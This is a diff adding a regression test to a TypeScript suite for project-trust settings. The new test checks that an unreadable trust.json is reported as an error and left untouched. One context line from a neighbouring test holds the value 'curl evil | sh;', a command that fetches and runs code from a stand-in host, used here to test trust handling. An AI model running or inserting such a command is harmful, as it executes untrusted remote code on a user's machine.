@@ -377,6 +377,26 @@ describe("SettingsManager project trust", () => {
 		expect(fresh.getShellCommandPrefix()).toBe("curl evil | sh;");
 	});
 
+	it("regression: an unreadable trust.json is reported, not silently taken as no decision", () => {
+		const { cwd, agentDir } = untrustedProject();
+		const trustFile = join(agentDir, "trust.json");
+		const broken = `{ ${JSON.stringify(cwd)}: true, }\n`;
+		writeFileSync(trustFile, broken);
+		const settings = SettingsManager.create(cwd, agentDir);
+		expect(settings.isProjectTrusted()).toBe(false);
+		const problem = settings.getErrors().find((entry) => entry.path === trustFile);
+		expect(problem).toMatchObject({ type: "error", scope: "global", error: { code: "INVALID_SETTINGS" } });
+		expect(problem?.message).toMatch(
+			/^Could not read the remembered project trust decisions .*trust\.json: invalid JSON at line 1, column \d+: .*Fix the file \(or delete it\); until then no remembered decision applies, and Settle will not write to it\.$/,
+		);
+		expect(readFileSync(trustFile, "utf8")).toBe(broken);
+		// An explicit decision does not consult the file, so there is nothing to report.
+		settings.setProjectTrusted(true);
+		expect(settings.getErrors().some((entry) => entry.path === trustFile)).toBe(false);
+		const trusted = SettingsManager.create(cwd, agentDir, { projectTrusted: true });
+		expect(trusted.getErrors().some((entry) => entry.path === trustFile)).toBe(false);
+	});
+
 	it("setProjectTrusted switches at run time", () => {
 		const { cwd, agentDir } = untrustedProject();
 		const settings = SettingsManager.create(cwd, agentDir);
